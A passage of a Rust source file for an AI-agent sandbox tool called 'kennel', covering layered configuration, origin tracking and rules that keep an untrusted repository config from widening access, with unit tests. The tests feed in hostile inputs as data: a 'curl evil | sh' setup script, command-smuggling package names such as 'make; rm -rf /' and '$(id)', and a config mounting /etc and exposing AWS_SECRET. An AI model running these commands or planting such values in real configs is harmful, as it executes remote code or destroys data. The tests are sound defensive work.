//! Layered configuration that remembers where every value came from.
//!
//! Layers, lowest first: built-in defaults → `/etc/kennel/config.toml` → the
//! user's `config.toml` → the project's `.kennel.toml` (untrusted) →
//! `KENNEL_*` variables. Command-line flags are applied later, while the
//! Plan is built. Each layer is checked on its own (so an error names its
//! file, line, column and key), then merged key by key.

use std::collections::BTreeMap;
use std::fmt;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use crate::plan::NetworkMode;
use crate::trust::TrustStore;

/// The built-in defaults, written as TOML so that they go through the same
/// path (and show up in `config show --origin`) as every other layer.
pub const DEFAULTS_TOML: &str = r#"
[defaults]
backend = "auto"
base_image = "debian:bookworm-slim"
ca_certificates = []
network = "allowlist"
allow = []
deny = []
env = []
mounts = []
pids_limit = 1024
share_agent_home = false
git_identity = "user"
"#;

/// Where a value came from.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "kind", content = "source", rename_all = "kebab-case")]
pub enum Origin {
    Default,
    System(PathBuf),
    User(PathBuf),
    Project(PathBuf),
    Env(String),
    Flag(String),
}

impl fmt::Display for Origin {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Origin::Default => write!(f, "default"),
            Origin::System(path) => write!(f, "system config {}", path.display()),
            Origin::User(path) => write!(f, "user config {}", path.display()),
            Origin::Project(path) => write!(f, "project config {}", path.display()),
            Origin::Env(var) => write!(f, "environment variable {var}"),
            Origin::Flag(flag) => write!(f, "flag {flag}"),
        }
    }
}

#[derive(Debug, thiserror::Error)]
pub enum ConfigError {
    #[error("cannot read {path}: {source}")]
    Read {
        path: PathBuf,
        source: std::io::Error,
    },
    #[error("{path}:{line}:{column}: {message}")]
    Invalid {
        path: PathBuf,
        line: usize,
        column: usize,
        key: Option<String>,
        message: String,
    },
    #[error("{variable}: {message}")]
    BadEnv { variable: String, message: String },
    #[error("{path} is a project config, and a repository may not set {}", keys.join(", "))]
    Untrusted { path: PathBuf, keys: Vec<String> },
    #[error(
        "{path} is a project config, and a repository may never bind secrets or logins ([{table}])"
    )]
    ProjectSecrets { path: PathBuf, table: String },
    #[error("[secrets.{name}] in {path}: {message}")]
    BadSecret {
        path: String,
        name: String,
        message: String,
    },
    #[error("`{key}` in {path}: {message}")]
    BadImage {
        path: String,
        key: String,
        message: String,
    },
    #[error("refusing the project config {path}: {reason}")]
    Unsafe {
        path: PathBuf,
        reason: crate::trust::ReadError,
    },
}

impl ConfigError {
    pub fn hint(&self) -> Option<String> {
        match self {
            ConfigError::Read { .. } => Some("check the file's permissions, or remove it".into()),
            ConfigError::Invalid { key: Some(key), .. } => Some(format!(
                "fix or remove `{key}`; `kennel config show --origin` lists the valid keys and their current values"
            )),
            ConfigError::Invalid { .. } => Some("fix the TOML syntax at that position".into()),
            ConfigError::BadEnv { .. } => {
                Some("unset the variable or give it a valid value".into())
            }
            ConfigError::Unsafe {
                path,
                reason: crate::trust::ReadError::Link,
            } => Some(format!(
                "a repository's .kennel.toml must be a regular file: a link would borrow the trust of the file it points at. Inspect it with `ls -l {}`; replace it with a copy of the file you mean (then `kennel config trust` if it widens policy), or remove it",
                path.display()
            )),
            ConfigError::Unsafe { path, .. } => Some(format!(
                "a repository's .kennel.toml must be a regular file of at most 1 MiB: inspect {}, then fix or remove it",
                path.display()
            )),
            ConfigError::ProjectSecrets { table, .. } => Some(format!(
                "a binding decides which hosts may receive a secret, so only your own config.toml may hold one (`kennel config trust` does not change that): move [{table}] there, or remove it"
            )),
            ConfigError::BadImage { key, .. } if key == "image.packages" => Some(
                "list the distribution's package names, like packages = [\"golang\", \"make\"] (a version as name=version)"
                    .into(),
            ),
            ConfigError::BadImage { .. } => {
                Some("see [image] in the configuration reference in the README".into())
            }
            ConfigError::BadSecret { name, .. } => Some(format!(
                "see [secrets.NAME] in the configuration reference: `hosts` and one of `header`, `basic` or `query` are needed; `kennel secret set {name}` stores its value"
            )),
            ConfigError::Untrusted { path, .. } => Some(format!(
                "a repository's config may only tighten policy. If you wrote this file and trust its exact content, run `kennel config trust {}` (editing the file revokes the trust), or move these keys to your own config.toml",
                path.display()
            )),
        }
    }
}

/// The `[defaults]` table.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Defaults {
    pub backend: Option<String>,
    pub base_image: Option<String>,
    pub ca_certificates: Option<Vec<PathBuf>>,
    pub network: Option<NetworkMode>,
    pub allow: Option<Vec<String>>,
    pub deny: Option<Vec<String>>,
    pub env: Option<Vec<String>>,
    pub mounts: Option<Vec<String>>,
    pub pids_limit: Option<i64>,
    pub memory: Option<String>,
    pub cpus: Option<f64>,
    /// How a session sees the repository: `direct`, `worktree` or `clone`.
    pub mode: Option<String>,
    /// Worktree and clone modes: commit the agent's uncommitted work to the
    /// session branch when the session ends (default: true).
    pub commit_on_exit: Option<bool>,
    /// One agent home for every repository (as before homes were per
    /// repository), instead of one per agent and repository (default false).
    /// Only the user's own (or a trusted) config may turn it on.
    pub share_agent_home: Option<bool>,
    /// Whose name and email the agent's commits carry: `"user"` (yours,
    /// from your git config), `"agent"` (the agent's own), or
    /// `{ name = "…", email = "…" }`. A repository's config may not set it.
    pub git_identity: Option<GitIdentitySetting>,
}

/// `defaults.git_identity`: a keyword or a fixed identity.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(untagged)]
pub enum GitIdentitySetting {
    /// `"user"` or `"agent"` (anything else is refused when a Plan is made).
    Keyword(String),
    Fixed(FixedGitIdentity),
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct FixedGitIdentity {
    pub name: String,
    pub email: String,
}

/// The first table of `layer` that binds a secret or a login
/// (`secrets.NAME`, `agents.NAME.oauth`): what only the user's own config
/// may hold.
fn binding_table(layer: &toml::Table) -> Option<String> {
    if let Some(secrets) = layer.get("secrets") {
        let name = secrets
            .as_table()
            .and_then(|table| table.keys().next().cloned())
            .unwrap_or_default();
        return Some(format!("secrets.{name}"));
    }
    layer
        .get("agents")
        .and_then(toml::Value::as_table)?
        .iter()
        .find(|(_, agent)| agent.get("oauth").is_some())
        .map(|(name, _)| format!("agents.{name}.oauth"))
}

/// The workspace modes `defaults.mode` and `--mode` accept.
pub const WORKSPACE_MODES: &[&str] = &["direct", "worktree", "clone"];

/// An `[agents.NAME]` table: every field optional, so a user can override
/// one fact of a built-in agent or define a whole new one.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct AgentOverride {
    pub description: Option<String>,
    pub command: Option<Vec<String>>,
    pub yolo: Option<Vec<String>>,
    pub resume: Option<Vec<String>>,
    pub runtime: Option<crate::catalog::Runtime>,
    pub install: Option<String>,
    pub state: Option<Vec<String>>,
    pub login: Option<Vec<String>>,
    pub env: Option<Vec<String>>,
    pub set_env: Option<BTreeMap<String, String>>,
    pub domains: Option<Vec<String>>,
    pub refused_hosts: Option<BTreeMap<String, String>>,
    pub command_from_args: Option<bool>,
    pub version: Option<Vec<String>>,
    pub git_author: Option<String>,
    /// The agent's subscription login, kept on the host by `kennel login`
    /// (`[agents.NAME.oauth]`: command, token_url, hosts, header).
    pub oauth: Option<crate::credentials::OAuthBinding>,
}

/// The `[network]` table: facts about the network kennel's egress proxy
/// works in. Only the user's own (or a trusted) config may set any of it.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct NetworkConfig {
    /// Names the proxy resolves itself, before DNS (like `/etc/hosts`):
    /// `hosts = { "git.internal" = ["10.0.0.5"] }`. The addresses still go
    /// through the private-address check.
    pub hosts: Option<BTreeMap<String, Vec<std::net::IpAddr>>>,
    /// Chain to this HTTP proxy: `http://[user:password@]host[:port]`.
    pub upstream_proxy: Option<String>,
    /// **Dangerous.** Address ranges (CIDR: `10.1.0.0/16`, `fd00::/8`, or a
    /// single address) exempt from the private-address check, so that an
    /// allowed name may resolve into them.
    pub trusted: Option<Vec<String>>,
}

impl NetworkConfig {
    /// `trusted` as (address, prefix length) pairs.
    pub fn trusted_ranges(&self) -> Result<Vec<(std::net::IpAddr, u8)>, String> {
        parse_trusted(self.trusted.iter().flatten())
    }
}

/// Address ranges as `network.trusted` writes them (CIDR, or one address)
/// as (address, prefix length) pairs.
pub fn parse_trusted<'a>(
    texts: impl IntoIterator<Item = &'a String>,
) -> Result<Vec<(std::net::IpAddr, u8)>, String> {
    {
        let mut out = Vec::new();
        for text in texts {
            let (addr, prefix) = match text.split_once('/') {
                Some((addr, prefix)) => (addr, Some(prefix)),
                None => (text.as_str(), None),
            };
            let addr: std::net::IpAddr = addr
                .trim()
                .parse()
                .map_err(|_| format!("`{text}` is not an address range like 10.1.0.0/16"))?;
            let max = if addr.is_ipv4() { 32 } else { 128 };
            let prefix = match prefix {
                Some(prefix) => prefix
                    .trim()
                    .parse::<u8>()
                    .ok()
                    .filter(|prefix| *prefix <= max)
                    .ok_or_else(|| format!("`{text}`: the prefix length must be 0..={max}"))?,
                None => max,
            };
            out.push((addr, prefix));
        }
        Ok(out)
    }
}

#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ConfigFile {
    #[serde(default)]
    pub defaults: Defaults,
    #[serde(default)]
    pub network: NetworkConfig,
    #[serde(default)]
    pub agents: BTreeMap<String, AgentOverride>,
    /// `[secrets.NAME]`: the user's own credential bindings (see
    /// [`crate::credentials`]); never from a project config.
    #[serde(default)]
    pub secrets: BTreeMap<String, crate::credentials::CredentialBinding>,
    #[serde(default)]
    pub image: ImageConfig,
    #[serde(default)]
    pub kubernetes: KubernetesConfig,
}

/// `[kubernetes]`: which cluster `--backend kubernetes` sends sessions to.
/// Only the user's own (or a trusted) config may set any of it: a project
/// that could name the cluster, context or namespace could send the code
/// to its author.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct KubernetesConfig {
    /// The kubeconfig file (default: `KUBECONFIG`, else `~/.kube/config`).
    pub kubeconfig: Option<PathBuf>,
    /// Its context (default: its current context).
    pub context: Option<String>,
    /// The namespace sessions go to (default: the context's, else `default`).
    pub namespace: Option<String>,
    /// A RuntimeClass for the session Pods (`gvisor`, `kata`): a wall of its
    /// own kernel's between the agent and the node.
    pub runtime_class: Option<String>,
    /// Where the cluster's nodes pull kennel's agent images from: kennel's
    /// image `kennel/claude:…` runs as `<registry>/kennel/claude:…` (you push
    /// it there). Default: the nodes have it already.
    pub registry: Option<String>,
    /// The StorageClass of the agents' homes (a PersistentVolumeClaim per
    /// agent and repository). Default: the cluster's default class; with
    /// none, each home is the Pod's own and goes with it.
    pub storage_class: Option<String>,
    /// What each home's claim asks for (a Kubernetes quantity; default
    /// `10Gi`). A claim keeps the size it was made with.
    pub home_size: Option<String>,
    /// Make each session's Pod through agent-sandbox's `Sandbox` (true),
    /// or as a plain Pod (false). Default: a Sandbox where the cluster
    /// has agent-sandbox.
    pub agent_sandbox: Option<bool>,
}

/// `[image]`: what the agent's image holds besides kennel's base and the
/// agent: a layer between them, built once per content.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ImageConfig {
    /// Distribution packages to install (`["golang", "make"]`). A project's
    /// `.kennel.toml` may add some: they only change what runs inside the
    /// sandbox. Your list and the project's are joined.
    pub packages: Option<Vec<String>>,
    /// A shell script run as root while the image is built, after the
    /// packages. Your own config (or a project config you trust) only.
    pub setup: Option<String>,
}

impl ImageConfig {
    /// What is wrong with `[image]`, as (key, message).
    pub fn check(&self) -> Result<(), (String, String)> {
        if let Some(bad) = self
            .packages
            .iter()
            .flatten()
            .find(|name| !valid_package(name))
        {
            return Err((
                "image.packages".into(),
                format!("`{bad}` is not a package name"),
            ));
        }
        if self
            .setup
            .as_deref()
            .is_some_and(|setup| setup.contains('\0'))
        {
            return Err(("image.setup".into(), "the script holds a NUL byte".into()));
        }
        Ok(())
    }
}

/// A package name as apt, dnf and apk spell them (letters, digits, `+ . -
/// _`, starting with a letter or digit), optionally `=version`: nothing a
/// shell would read as more than one word.
fn valid_package(name: &str) -> bool {
    let (package, version) = match name.split_once('=') {
        Some((package, version)) => (package, Some(version)),
        None => (name, None),
    };
    let plain = |text: &str, extra: &[u8]| {
        !text.is_empty()
            && text.len() <= 200
            && text
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || extra.contains(&b))
    };
    package
        .bytes()
        .next()
        .is_some_and(|b| b.is_ascii_alphanumeric())
        && plain(package, b"+.-_")
        && version.is_none_or(|version| plain(version, b"+.-_~:"))
}

/// One parsed layer.
#[derive(Debug, Clone)]
pub struct Layer {
    pub origin: Origin,
    pub table: toml::Table,
}

/// The merged configuration, with the origin of every leaf key.
#[derive(Debug, Clone)]
pub struct Config {
    pub file: ConfigFile,
    pub merged: toml::Table,
    pub origins: BTreeMap<String, Origin>,
    /// Project config files that were found (trusted or not).
    pub project_file: Option<PathBuf>,
}

/// Where to look for each layer; the binary fills this from XDG paths, tests
/// from temporary directories.
#[derive(Debug, Clone, Default)]
pub struct ConfigSources {
    pub system: Option<PathBuf>,
    pub user: Option<PathBuf>,
    pub project: Option<PathBuf>,
    pub env: BTreeMap<String, String>,
}

/// `KENNEL_*` variables and the key each one sets.
pub const ENV_KEYS: &[(&str, &str)] = &[
    ("KENNEL_BACKEND", "backend"),
    ("KENNEL_BASE_IMAGE", "base_image"),
    ("KENNEL_NETWORK", "network"),
];

impl Config {
    pub fn load(sources: &ConfigSources, trust: &TrustStore) -> Result<Config, ConfigError> {
        let mut layers = vec![parse_layer(
            DEFAULTS_TOML,
            Path::new("<built-in defaults>"),
            Origin::Default,
        )?];
        let trusted_files = [
            sources
                .system
                .as_ref()
                .map(|path| (path, Origin::System(path.clone()))),
            sources
                .user
                .as_ref()
                .map(|path| (path, Origin::User(path.clone()))),
        ];
        for (path, origin) in trusted_files.into_iter().flatten() {
            if let Some(text) = read_optional(path)? {
                layers.push(parse_layer(&text, path, origin)?);
            }
        }
        let mut project_file = None;
        if let Some((path, text)) = sources
            .project
            .as_ref()
            .and_then(|path| read_project(path).transpose().map(|text| (path, text)))
        {
            let text = text?;
            let layer = parse_layer(&text, path, Origin::Project(path.clone()))?;
            if let Some(table) = binding_table(&layer.table) {
                return Err(ConfigError::ProjectSecrets {
                    path: path.clone(),
                    table,
                });
            }
            if !trust.is_trusted(path, text.as_bytes()) {
                let so_far = merge_layers(&layers).0;
                let refused = untrusted_keys(&layer.table, &so_far);
                if !refused.is_empty() {
                    return Err(ConfigError::Untrusted {
                        path: path.clone(),
                        keys: refused,
                    });
                }
            }
            project_file = Some(path.clone());
            layers.push(layer);
        }
        layers.push(env_layer(&sources.env)?);
        let (merged, origins) = merge_layers(&layers);
        let file =
            ConfigFile::deserialize(toml::Value::Table(merged.clone())).map_err(|error| {
                ConfigError::Invalid {
                    path: PathBuf::from("<merged config>"),
                    line: 0,
                    column: 0,
                    key: None,
                    message: error.to_string(),
                }
            })?;
        if let Err((key, message)) = file.image.check() {
            let path = origins
                .get(&key)
                .map(|origin| origin.to_string())
                .unwrap_or_else(|| "your config".into());
            return Err(ConfigError::BadImage { path, key, message });
        }
        for (name, binding) in &file.secrets {
            if let Err(message) = binding.check(name) {
                let path = origins
                    .iter()
                    .find(|(key, _)| key.starts_with(&format!("secrets.{name}.")))
                    .map(|(_, origin)| origin.to_string())
                    .unwrap_or_else(|| "your config".into());
                return Err(ConfigError::BadSecret {
                    path,
                    name: name.clone(),
                    message,
                });
            }
        }
        Ok(Config {
            file,
            merged,
            origins,
            project_file,
        })
    }

    pub fn origin_of(&self, key: &str) -> Option<&Origin> {
        self.origins.get(key)
    }

    /// Leaf keys with their values as TOML text, in key order.
    pub fn entries(&self) -> Vec<(String, String, Origin)> {
        let mut out = Vec::new();
        flatten(&self.merged, "", &mut |key, value| {
            let origin = self.origins.get(key).cloned().unwrap_or(Origin::Default);
            out.push((key.to_string(), value.to_string(), origin));
        });
        out
    }
}

fn read_optional(path: &Path) -> Result<Option<String>, ConfigError> {
    match std::fs::read_to_string(path) {
        Ok(text) => Ok(Some(text)),
        Err(error) if error.kind() == std::io::ErrorKind::NotFound => Ok(None),
        Err(source) => Err(ConfigError::Read {
            path: path.to_path_buf(),
            source,
        }),
    }
}

/// A repository's config, written by whoever can write the repository (an
/// agent, too): read without following a link, through one descriptor (see
/// [`crate::trust::read_config_file`]).
fn read_project(path: &Path) -> Result<Option<String>, ConfigError> {
    let Some(bytes) = crate::trust::read_config_file(path).map_err(|reason| match reason {
        crate::trust::ReadError::Io(source) => ConfigError::Read {
            path: path.to_path_buf(),
            source,
        },
        reason => ConfigError::Unsafe {
            path: path.to_path_buf(),
            reason,
        },
    })?
    else {
        return Ok(None);
    };
    String::from_utf8(bytes)
        .map(Some)
        .map_err(|_| ConfigError::Read {
            path: path.to_path_buf(),
            source: std::io::Error::new(std::io::ErrorKind::InvalidData, "not UTF-8 text"),
        })
}

/// Parses and type-checks one file, pointing errors at the offending key.
pub fn parse_layer(text: &str, path: &Path, origin: Origin) -> Result<Layer, ConfigError> {
    let document = toml_edit::Document::parse(text).map_err(|error| {
        let (line, column) = error
            .span()
            .map(|span| line_column(text, span.start))
            .unwrap_or((1, 1));
        ConfigError::Invalid {
            path: path.to_path_buf(),
            line,
            column,
            key: None,
            message: error.message().to_string(),
        }
    })?;
    let table: toml::Table = toml::from_str(text).map_err(|error| ConfigError::Invalid {
        path: path.to_path_buf(),
        line: 1,
        column: 1,
        key: None,
        message: error.message().to_string(),
    })?;
    let checked: Result<ConfigFile, _> =
        serde_path_to_error::deserialize(toml::Value::Table(table.clone()));
    if let Err(error) = checked {
        let key = error.path().to_string();
        let offset = key_offset(&document, &key).unwrap_or(0);
        let (line, column) = line_column(text, offset);
        return Err(ConfigError::Invalid {
            path: path.to_path_buf(),
            line,
            column,
            message: explain(&error.into_inner().to_string(), &key),
            key: Some(key),
        });
    }
    Ok(Layer { origin, table })
}

/// A deserializer's message as a user reads it: serde's "unknown field
/// `x`, expected one of …" names the whole key and the nearest valid one;
/// toml's trailing "in `table`" (the key already says where) is dropped.
fn explain(message: &str, key: &str) -> String {
    let message = message
        .lines()
        .filter(|line| !line.trim().is_empty() && !line.starts_with("in `"))
        .collect::<Vec<_>>()
        .join(" ");
    let Some(rest) = message.strip_prefix("unknown field `") else {
        return message;
    };
    let Some((unknown, expected)) = rest.split_once('`') else {
        return message;
    };
    let valid: Vec<&str> = expected.split('`').skip(1).step_by(2).collect();
    let nearest = valid
        .iter()
        .map(|candidate| (strsim::jaro_winkler(unknown, candidate), *candidate))
        .filter(|(score, _)| *score > 0.8)
        .max_by(|a, b| a.0.total_cmp(&b.0));
    match nearest {
        Some((_, candidate)) => format!("unknown key `{key}` (did you mean `{candidate}`?)"),
        None => format!("unknown key `{key}` (valid here: {})", valid.join(", ")),
    }
}

/// Byte offset of the deepest key along `dotted` that exists in the document.
fn key_offset(document: &toml_edit::Document<&str>, dotted: &str) -> Option<usize> {
    let mut table: &dyn toml_edit::TableLike = document.as_table();
    let mut found = None;
    for part in dotted.split('.') {
        let part = part.split('[').next().unwrap_or(part);
        let Some((key, item)) = table.get_key_value(part) else {
            break;
        };
        if let Some(span) = key.span() {
            found = Some(span.start);
        }
        match item.as_table_like() {
            Some(inner) => table = inner,
            None => {
                if let Some(span) = item.span() {
                    found = found.or(Some(span.start));
                }
                break;
            }
        }
    }
    found
}

fn line_column(text: &str, offset: usize) -> (usize, usize) {
    let before = &text[..offset.min(text.len())];
    let line = before.matches('\n').count() + 1;
    let column = before
        .rsplit('\n')
        .next()
        .map(|rest| rest.chars().count())
        .unwrap_or(0)
        + 1;
    (line, column)
}

fn env_layer(env: &BTreeMap<String, String>) -> Result<Layer, ConfigError> {
    let mut defaults = toml::Table::new();
    for (variable, key) in ENV_KEYS {
        if let Some(value) = env.get(*variable).filter(|value| !value.is_empty()) {
            if *key == "network" && NetworkMode::parse(value).is_none() {
                return Err(ConfigError::BadEnv {
                    variable: variable.to_string(),
                    message: format!(
                        "`{value}` is not a network mode (none, allowlist, restricted, open)"
                    ),
                });
            }
            defaults.insert(key.to_string(), toml::Value::String(value.clone()));
        }
    }
    let mut table = toml::Table::new();
    table.insert("defaults".into(), toml::Value::Table(defaults));
    let origin = Origin::Env("KENNEL_*".into());
    Ok(Layer { origin, table })
}

/// Deep-merges the layers; later layers win, leaf by leaf.
pub fn merge_layers(layers: &[Layer]) -> (toml::Table, BTreeMap<String, Origin>) {
    let mut merged = toml::Table::new();
    let mut origins = BTreeMap::new();
    for layer in layers {
        merge_into(&mut merged, &layer.table, "", &layer.origin, &mut origins);
    }
    // The environment layer has one origin for all variables; name the exact one.
    for (variable, key) in ENV_KEYS {
        let dotted = format!("defaults.{key}");
        if matches!(origins.get(&dotted), Some(Origin::Env(_))) {
            origins.insert(dotted, Origin::Env(variable.to_string()));
        }
    }
    (merged, origins)
}

fn merge_into(
    target: &mut toml::Table,
    source: &toml::Table,
    prefix: &str,
    origin: &Origin,
    origins: &mut BTreeMap<String, Origin>,
) {
    for (key, value) in source {
        let dotted = if prefix.is_empty() {
            key.clone()
        } else {
            format!("{prefix}.{key}")
        };
        match (target.get_mut(key), value) {
            (Some(toml::Value::Table(existing)), toml::Value::Table(incoming)) => {
                merge_into(existing, incoming, &dotted, origin, origins);
            }
            // Every layer's packages are installed: the lists are joined.
            (Some(toml::Value::Array(existing)), toml::Value::Array(incoming))
                if dotted == "image.packages" =>
            {
                for item in incoming {
                    if !existing.contains(item) {
                        existing.push(item.clone());
                    }
                }
                origins.insert(dotted, origin.clone());
            }
            _ => {
                if let toml::Value::Table(incoming) = value {
                    let mut fresh = toml::Table::new();
                    merge_into(&mut fresh, incoming, &dotted, origin, origins);
                    target.insert(key.clone(), toml::Value::Table(fresh));
                } else {
                    target.insert(key.clone(), value.clone());
                    origins.insert(dotted, origin.clone());
                }
            }
        }
    }
}

fn flatten(table: &toml::Table, prefix: &str, visit: &mut dyn FnMut(&str, &toml::Value)) {
    for (key, value) in table {
        let dotted = if prefix.is_empty() {
            key.clone()
        } else {
            format!("{prefix}.{key}")
        };
        match value {
            toml::Value::Table(inner) => flatten(inner, &dotted, visit),
            other => visit(&dotted, other),
        }
    }
}

/// Keys of an untrusted project layer that would widen what the sandbox can
/// reach. A repository may tighten policy (less network, more denied
/// domains, a lower pids limit) and choose its base image; nothing else.
fn untrusted_keys(project: &toml::Table, trusted_so_far: &toml::Table) -> Vec<String> {
    let mut refused = Vec::new();
    let current = |key: &str| {
        trusted_so_far
            .get("defaults")
            .and_then(|d| d.get(key))
            .cloned()
    };
    flatten(project, "", &mut |dotted, value| {
        let allowed = match dotted {
            "defaults.deny" | "defaults.base_image" => true,
            // Packages only change what runs inside the sandbox.
            "image.packages" => true,
            // A repository may keep its home to itself, never share it.
            "defaults.share_agent_home" => value.as_bool() == Some(false),
            // A repository may ask for its own checkout per session (less
            // access to the user's checkout), never for the checkout itself.
            "defaults.mode" => matches!(value.as_str(), Some("worktree" | "clone")),
            "defaults.network" => {
                let wanted = value.as_str().and_then(NetworkMode::parse);
                let now = current("network").and_then(|v| v.as_str().and_then(NetworkMode::parse));
                matches!((wanted, now), (Some(wanted), Some(now)) if wanted <= now)
            }
            "defaults.pids_limit" => {
                let now = current("pids_limit").and_then(|v| v.as_integer());
                matches!((value.as_integer(), now), (Some(wanted), Some(now)) if wanted > 0 && wanted <= now)
            }
            // Empty lists add nothing.
            _ => value.as_array().is_some_and(|items| items.is_empty()),
        };
        if !allowed {
            refused.push(dotted.to_string());
        }
    });
    refused
}

#[cfg(test)]
mod tests {
    #[test]
    fn unknown_keys_are_named_whole_with_the_nearest_valid_one() {
        let message =
            "unknown field `memmory`, expected one of `backend`, `memory`, `cpus`\nin `defaults`\n";
        assert_eq!(
            super::explain(message, "defaults.memmory"),
            "unknown key `defaults.memmory` (did you mean `memory`?)"
        );
        let message = "unknown field `zzz`, expected `backend` or `memory`";
        assert_eq!(
            super::explain(message, "defaults.zzz"),
            "unknown key `defaults.zzz` (valid here: backend, memory)"
        );
        assert_eq!(
            super::explain(
                "invalid type: string \"x\", expected i64\nin `defaults`\n",
                "defaults.pids_limit"
            ),
            "invalid type: string \"x\", expected i64"
        );
    }

    use super::*;

    fn load_with(
        user: Option<&str>,
        project: Option<&str>,
    ) -> (Result<Config, ConfigError>, tempfile::TempDir) {
        let dir = tempfile::tempdir().expect("tempdir");
        let mut sources = ConfigSources::default();
        if let Some(text) = user {
            let path = dir.path().join("config.toml");
            std::fs::write(&path, text).expect("write");
            sources.user = Some(path);
        }
        if let Some(text) = project {
            let path = dir.path().join(".kennel.toml");
            std::fs::write(&path, text).expect("write");
            sources.project = Some(path);
        }
        let trust = TrustStore::in_memory();
        (Config::load(&sources, &trust), dir)
    }

    /// A project may add packages (joined with yours), not a setup script;
    /// a name that is not a package is refused, naming the file and key.
    #[test]
    fn image_packages_from_the_project_join_yours_and_setup_is_yours() {
        let (config, _dir) = load_with(
            Some("[image]\npackages = [\"make\"]\nsetup = \"touch /opt/x\"\n"),
            Some("[image]\npackages = [\"golang\", \"make\"]\n"),
        );
        let config = config.expect("a project may add packages");
        assert_eq!(
            config.file.image.packages.as_deref(),
            Some(&["make".to_string(), "golang".to_string()][..])
        );
        assert_eq!(config.file.image.setup.as_deref(), Some("touch /opt/x"));

        let (config, _dir) = load_with(None, Some("[image]\nsetup = \"curl evil | sh\"\n"));
        match config {
            Err(ConfigError::Untrusted { keys, .. }) => assert_eq!(keys, ["image.setup"]),
            other => panic!("a project set the setup script: {other:?}"),
        }

        for bad in ["make; rm -rf /", "$(id)", "-o", "", "a b", "pkg=1 2"] {
            let (config, dir) = load_with(
                None,
                Some(&format!(
                    "[image]\npackages = [{}]\n",
                    toml::Value::from(bad)
                )),
            );
            match config {
                Err(error @ ConfigError::BadImage { .. }) => {
                    let text = error.to_string();
                    assert!(text.contains("image.packages"), "{text}");
                    assert!(
                        text.contains(&dir.path().join(".kennel.toml").display().to_string()),
                        "{text}"
                    );
                }
                other => panic!("{bad:?} was accepted: {other:?}"),
            }
        }
        for good in ["g++", "python3.11", "libc6-dev", "golang=2:1.19~1", "lib_x"] {
            let (config, _dir) = load_with(
                Some(&format!(
                    "[image]\npackages = [{}]\n",
                    toml::Value::from(good)
                )),
                None,
            );
            assert!(config.is_ok(), "{good}: {config:?}");
        }
    }

    #[test]
    fn defaults_have_origin_default() {
        let (config, _dir) = load_with(None, None);
        let config = config.expect("loads");
        assert_eq!(config.file.defaults.backend.as_deref(), Some("auto"));
        assert_eq!(config.origin_of("defaults.backend"), Some(&Origin::Default));
    }

    #[test]
    fn user_layer_overrides_and_is_remembered() {
        let (config, dir) = load_with(Some("[defaults]\nbackend = \"podman\"\n"), None);
        let config = config.expect("loads");
        assert_eq!(config.file.defaults.backend.as_deref(), Some("podman"));
        assert_eq!(
            config.origin_of("defaults.backend"),
            Some(&Origin::User(dir.path().join("config.toml")))
        );
        assert_eq!(
            config.origin_of("defaults.base_image"),
            Some(&Origin::Default)
        );
    }

    #[test]
    fn unknown_key_names_file_line_column_and_key() {
        let (config, _dir) = load_with(
            Some("[defaults]\nbackend = \"docker\"\n  bakend = 3\n"),
            None,
        );
        match config {
            Err(ConfigError::Invalid {
                line, column, key, ..
            }) => {
                assert_eq!((line, column), (3, 3));
                assert_eq!(key.as_deref(), Some("defaults.bakend"));
            }
            other => panic!("expected Invalid, got {other:?}"),
        }
    }

    #[test]
    fn wrong_type_points_at_the_key() {
        let (config, _dir) = load_with(Some("[defaults]\npids_limit = \"many\"\n"), None);
        match config {
            Err(ConfigError::Invalid { line, key, .. }) => {
                assert_eq!(line, 2);
                assert_eq!(key.as_deref(), Some("defaults.pids_limit"));
            }
            other => panic!("expected Invalid, got {other:?}"),
        }
    }

    #[test]
    fn syntax_error_has_a_position() {
        let (config, _dir) = load_with(Some("[defaults\n"), None);
        assert!(
            matches!(
                config,
                Err(ConfigError::Invalid {
                    line: 1,
                    key: None,
                    ..
                })
            ),
            "{config:?}"
        );
    }

    #[test]
    fn project_may_tighten() {
        let (config, _dir) = load_with(
            None,
            Some("[defaults]\nnetwork = \"none\"\ndeny = [\"evil.example\"]\npids_limit = 100\n"),
        );
        let config = config.expect("tightening is allowed");
        assert_eq!(config.file.defaults.network, Some(NetworkMode::None));
    }

    #[test]
    fn project_may_choose_a_checkout_mode_only() {
        for mode in ["worktree", "clone"] {
            let (config, _dir) = load_with(None, Some(&format!("[defaults]\nmode = \"{mode}\"\n")));
            let config = config.expect("a checkout of its own is allowed");
            assert_eq!(config.file.defaults.mode.as_deref(), Some(mode));
            assert!(config.origin_of("defaults.mode").is_some());
        }
        let (config, _dir) = load_with(
            Some("[defaults]\nmode = \"worktree\"\n"),
            Some("[defaults]\nmode = \"direct\"\ncommit_on_exit = false\n"),
        );
        match config {
            Err(ConfigError::Untrusted { keys, .. }) => {
                assert_eq!(keys, vec!["defaults.commit_on_exit", "defaults.mode"])
            }
            other => panic!("expected Untrusted, got {other:?}"),
        }
    }

    #[test]
    fn project_may_not_widen() {
        let (config, _dir) = load_with(
            None,
            Some(
                "[defaults]\nmounts = [\"/etc:/host-etc\"]\nenv = [\"AWS_SECRET\"]\nnetwork = \"open\"\nallow = [\"x.com\"]\n\n[agents.evil]\ncommand = [\"sh\"]\n",
            ),
        );
        match config {
            Err(ConfigError::Untrusted { keys, .. }) => assert_eq!(
                keys,
                vec![
                    "agents.evil.command",
                    "defaults.allow",
                    "defaults.env",
                    "defaults.mounts",
                    "defaults.network"
                ]
            ),
